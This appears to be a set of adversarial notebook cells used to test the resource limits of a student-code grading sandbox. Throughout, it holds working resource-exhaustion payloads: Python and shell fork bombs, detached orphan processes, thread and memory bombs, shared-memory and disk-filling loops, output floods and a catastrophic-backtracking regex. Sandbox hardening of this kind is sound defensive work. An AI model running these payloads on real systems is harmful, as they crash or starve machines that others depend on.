# %% id="orphans" aim="resources"
import os
import subprocess
import sys

for _ in range(3):
    subprocess.Popen(
        [sys.executable, "-S", "-c", "import time; time.sleep(3600)", "was-here-hw11"], start_new_session=True
    )
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["was-here-hw11", "3600"])
    os._exit(0)

# %% id="fork_bomb" aim="resources" status="kernel died" kept="before"
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(1)

# %% id="fork_bomb_of_the_shell" aim="resources" status="graded|kernel died|out of time" kept="before"
import os

os.system("bomb() { bomb | bomb & }; bomb; sleep 5")
os._exit(1)

# %% id="thread_bomb" aim="resources"
import threading

_stop = threading.Event()
try:
    for _ in range(10000):
        threading.Thread(target=_stop.wait, daemon=True).start()
    leak("10000 threads")
except (RuntimeError, MemoryError):
    pass
_stop.set()

# %% id="memory_bomb" aim="resources"
_much = []
try:
    while True:
        _much.append(bytearray(256 * 2**20))
        if len(_much) > 64:
            leak("16 GiB")
            break
except MemoryError:
    _much.clear()
    raise


# %% id="memory_bomb_of_torch" aim="resources"
def surrogate_naive(log_probs, advantages, mask):
    return torch.ones(10**11).sum() + log_probs.sum(-1)


# %% id="memory_bomb_of_many_processes" aim="resources" status="kernel died" kept="before"
import os
import time

for _ in range(8):
    if os.fork() == 0:
        _much = []
        for _ in range(40):
            _much.append(b"x" * (32 * 2**20))
            time.sleep(0.3)
        time.sleep(60)
time.sleep(50)

# %% id="memory_in_nameless_files" aim="resources"
import os

_files = []
try:
    for _ in range(24):
        _files.append(os.memfd_create("x"))
        for _ in range(60):
            os.write(_files[-1], b"x" * 2**20)
    leak("1.4 GiB in files without a name")
except OSError:
    pass

# %% id="memory_that_is_shared" aim="resources"
import ctypes

_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
if _libc.shmget(0, 2**30, 0o1600) >= 0:
    leak("shared memory of System V")

# %% id="fills_the_disk" aim="resources"
import os

_total = 0
for _folder in ("/tmp", "/home/student", "/dev/shm", "/run/kernel", "/run", "/var/tmp", "/dev", "/dev/mqueue"):
    try:
        for _number in range(200):
            with open(f"{_folder}/x{_number}", "wb") as _file:
                for _ in range(60):
                    _total += _file.write(b"x" * 2**20)
    except OSError:
        pass
    if _total > 900 * 2**20:
        leak(f"{_total >> 20} MiB on disk")
        break
for _folder in ("/tmp", "/home/student", "/dev/shm"):
    for _name in os.listdir(_folder):
        if _name.startswith("x"):
            os.unlink(f"{_folder}/{_name}")

# %% id="fills_the_folder_of_its_sockets" aim="resources" status="graded|kernel died"
import time

_total = 0
try:
    for _number in range(100):
        with open(f"/run/kernel/x{_number}", "wb") as _file:
            _total += _file.write(b"x" * 2**20)
    time.sleep(3)
    leak(f"{_total >> 20} MiB beside its sockets")
except OSError:
    pass

# %% id="one_file_without_end" aim="resources"
with open("/tmp/sparse", "wb") as _file:
    try:
        _file.truncate(2**40)
        leak("a file of 1 TiB")
    except OSError:
        pass

# %% id="very_many_files" aim="resources"
import os

os.makedirs("/tmp/many")
try:
    for _number in range(50000):
        os.symlink("x", f"/tmp/many/{_number}")
except OSError:
    pass

# %% id="prints_two_hundred_megabytes" aim="resources"
for _ in range(200):
    print("x" * 2**20)

# %% id="prints_a_page_of_sixty_megabytes" aim="resources"
from IPython.display import HTML, display

display(HTML("<p>" + "x" * (60 * 2**20)))

# %% id="shows_twenty_thousand_things" aim="resources"
from IPython.display import display

for _ in range(20000):
    display({"text/plain": "x" * 100}, raw=True)

# %% id="writes_to_the_file_of_errors" aim="resources" status="graded|out of time"
import os

try:
    for _ in range(200):
        os.write(2, b"x" * 2**20)
except OSError:  # (a stream of the cell, cut like any other)
    pass


# %% id="emits_a_hundred_thousand_records" aim="resources" status="graded|out of time"
# Its cells take nearly a minute: on a busy machine they meet the limit.
def surrogate_naive(log_probs, advantages, mask):
    for number in range(20000):
        emit("surrogate_naive", number)
    return log_probs.sum(-1)


# %% id="emits_one_enormous_record" aim="resources"
def surrogate_naive(log_probs, advantages, mask):
    emit("surrogate_naive", "x" * (30 * 2**20))
    return log_probs.sum(-1)


# %% id="warns_a_thousand_times" aim="resources"
import logging
import sys
import warnings

for _number in range(1000):
    warnings.warn(f"number {_number}", stacklevel=1)
    logging.error("number %d", _number)
    print("error", file=sys.stderr)

# %% id="hundreds_of_pictures" aim="resources"
import matplotlib.pyplot as plt

for _ in range(30):
    plt.figure()
    plt.plot(np.random.default_rng(0).normal(size=100))
plt.show()

# %% id="regular_expression_without_end" aim="resources" status="out of time|kernel died" kept="before"
import re

re.match(r"(a+)+$", "a" * 60 + "b")
